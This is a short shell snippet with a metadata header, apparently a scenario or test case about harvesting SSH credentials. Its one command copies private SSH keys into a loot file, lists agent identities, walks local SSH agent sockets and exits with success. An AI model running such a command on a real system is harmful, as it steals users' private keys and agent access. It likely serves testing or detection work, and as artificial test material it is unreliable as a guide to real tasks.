# title: uses the keys and agents of ssh
# success: secrets
# where: both
# hooks: not
cat ~/.ssh/id_* >"$A_LOOT"; ssh-add -L; for s in /tmp/ssh-*/agent.* /run/user/*/keyring/ssh ~/.ssh/agent*; do SSH_AUTH_SOCK=$s ssh-add -L; done; exit 0
